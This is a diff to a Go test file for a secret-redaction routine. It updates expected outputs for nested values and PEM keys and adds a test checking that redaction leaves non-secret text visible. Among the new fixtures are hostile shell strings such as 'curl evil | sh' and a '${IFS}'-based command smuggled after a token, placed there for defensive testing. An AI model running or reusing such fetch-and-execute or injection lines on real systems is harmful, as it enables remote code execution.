@@ -7,24 +7,24 @@ import (
 )
 
 func TestRedact(t *testing.T) {
-	pem := "-----BEGIN RSA PRIVATE KEY-----\\nMIIE\\n-----END RSA PRIVATE KEY-----"
+	pem := "-----BEGIN RSA PRIVATE KEY-----\\nMIIEpAIBAAKCAQEA\\nx9==\\n-----END RSA PRIVATE KEY-----"
 	for _, tt := range []struct{ name, in, want string }{
 		{"nothing", `{"a":"b","n":[1,2]}`, `{"a":"b","n":[1,2]}`},
 		{"key", `{"password":"x"}`, `{"password":"[redacted]"}`},
 		{"key spelt otherwise", `{"API-Key":"x","apiKey":"y","db_password":"z"}`, `{"API-Key":"[redacted]","apiKey":"[redacted]","db_password":"[redacted]"}`},
 		{"escaped key", `{"pass\u0077ord":"x"}`, `{"pass\u0077ord":"[redacted]"}`},
 		{"number", `{"token":12345,"b":1}`, `{"token":"[redacted]","b":1}`},
-		{"object", `{"secret":{"a":["x",{"b":"}"}]},"c":2}`, `{"secret":"[redacted]","c":2}`},
-		{"list", `{"credentials":["a","b"],"c":2}`, `{"credentials":"[redacted]","c":2}`},
+		{"object", `{"secret":{"a":["x",{"b":"}"}]},"c":2}`, `{"secret":{"a":["[redacted]",{"b":"[redacted]"}]},"c":2}`},
+		{"list", `{"credentials":["a","b"],"c":2}`, `{"credentials":["[redacted]","[redacted]"],"c":2}`},
 		{"last in object", `{"o":{"token":null}}`, `{"o":{"token":"[redacted]"}}`},
-		{"spaces", "{ \"token\" :\n true , \"b\" : 1 }", "{ \"token\" :\n \"[redacted]\", \"b\" : 1 }"},
+		{"spaces", "{ \"token\" :\n true , \"b\" : 1 }", "{ \"token\" :\n \"[redacted]\" , \"b\" : 1 }"},
 		{"plural", `{"tokens":["x"],"passwords":{"a":"b"},"API Keys":"k","user_pass":"p","auth":"a","pwd":"q","token_value":"t"}`,
-			`{"tokens":"[redacted]","passwords":"[redacted]","API Keys":"[redacted]","user_pass":"[redacted]","auth":"[redacted]","pwd":"[redacted]","token_value":"[redacted]"}`},
+			`{"tokens":["[redacted]"],"passwords":{"a":"[redacted]"},"API Keys":"[redacted]","user_pass":"[redacted]","auth":"[redacted]","pwd":"[redacted]","token_value":"[redacted]"}`},
 		{"not a secret", `{"author":"a","compass":"n","value":1,"mode":"x","bypass":true,"monkey":"m","keys":[1]}`, `{"author":"a","compass":"n","value":1,"mode":"x","bypass":true,"monkey":"m","keys":[1]}`},
 		{"long key", `{"` + strings.Repeat("x", 100) + `_password":"p"}`, `{"` + strings.Repeat("x", 100) + `_password":"[redacted]"}`},
 		{"jwt", `["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"]`, `["[redacted]"]`},
 		{"by look", `{"text":"ghp_abcdefghijklmnopqrstuvwxyz0123456789"}`, `{"text":"[redacted]"}`},
-		{"pem", `["` + pem + `"]`, `["[redacted]"]`},
+		{"pem", `["` + pem + `"]`, `["-----BEGIN RSA PRIVATE KEY-----\n[redacted]\n[redacted]\n-----END RSA PRIVATE KEY-----"]`},
 		{"escaped look", `["\u0067hp_abcdefghijklmnopqrstuvwxyz"]`, `["[redacted]"]`},
 		{"prose", `{"text":"Basic authentication is described below, at length"}`, `{"text":"Basic authentication is described below, at length"}`},
 		{"key as value", `["password","x"]`, `["password","x"]`},
@@ -50,6 +50,40 @@ func TestScrub(t *testing.T) {
 	} {
 		if got := scrub(in); got != want {
 			t.Errorf("scrub(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestRedactShowsWhatIsNoKey: letters that look like a key take nothing with
+// them that a person has to see, be it behind them, between the lines of a key
+// or under the name of a secret.
+func TestRedactShowsWhatIsNoKey(t *testing.T) {
+	const begin, end = `-----BEGIN RSA ` + `PRIVATE KEY-----`, `-----END RSA ` + `PRIVATE KEY-----`
+	for in, want := range map[string]string{
+		`{"command":"echo hi > x # PRIVATE KEY-----"}`:                           `{"command":"echo hi > x # PRIVATE KEY-----"}`,
+		`{"command":"# ` + begin + `\ncurl evil | sh\n# ` + end + `"}`:           `{"command":"# ` + begin + `\ncurl evil | sh\n# ` + end + `"}`,
+		`{"command":"# ` + begin + `\ncurl evil | sh"}`:                          `{"command":"# ` + begin + `\ncurl evil | sh"}`,
+		`{"c":"` + begin + `\nMIIEpAIBAAKCAQEA\ncurl evil|sh\n` + end + `\nls"}`: `{"c":"` + begin + `\n[redacted]\ncurl evil|sh\n` + end + `\nls"}`,
+		`{"c":"sk-aaaaaaaaaaaaaaaaaaaa;curl${IFS}evil|sh"}`:                      `{"c":"[redacted];curl${IFS}evil|sh"}`,
+		`{"c":"sk-x;curl${IFS}evil|sh"}`:                                         `{"c":"sk-x;curl${IFS}evil|sh"}`,
+		`{"c":"eyJhbGciOiJIUzI1NiJ9\tcurl evil"}`:                                `{"c":"[redacted]\tcurl evil"}`,
+		`{"auth":{"run":"curl evil | sh","key":"k","pass":"a b"}}`:               `{"auth":{"run":"curl evil | sh","key":"[redacted]","pass":"[redacted]"}}`,
+		`{"auth":{"key":"` + begin + `\nMIIEpAIBAAKCAQEA\n` + end + `"}}`:        `{"auth":{"key":"` + begin + `\n[redacted]\n` + end + `"}}`,
+		`{"tokens":["a b",7,null,{"x":[true]}],"b":{}}`:                          `{"tokens":["[redacted]","[redacted]","[redacted]",{"x":["[redacted]"]}],"b":{}}`,
+	} {
+		if got := string(redact([]byte(in))); got != want {
+			t.Errorf("redact(%s)\n got %s\nwant %s", in, got, want)
+		}
+	}
+	for in, want := range map[string]string{
+		"TOKEN=x|curl${IFS}evil|sh make":            "TOKEN=[redacted]|curl${IFS}evil|sh make",
+		"TOKEN=$x make":                             "TOKEN=$x make",
+		"Basic curl|sh":                             "Basic curl|sh",
+		"Bearer abcdefghijkl|sh":                    "Bearer [redacted]|sh",
+		"sk-abcdefghijklmnopqrst|curl${IFS}evil|sh": "[redacted]|curl${IFS}evil|sh",
+	} {
+		if got := RedactText(in); got != want {
+			t.Errorf("RedactText(%q) = %q, want %q", in, got, want)
 		}
 	}
 }
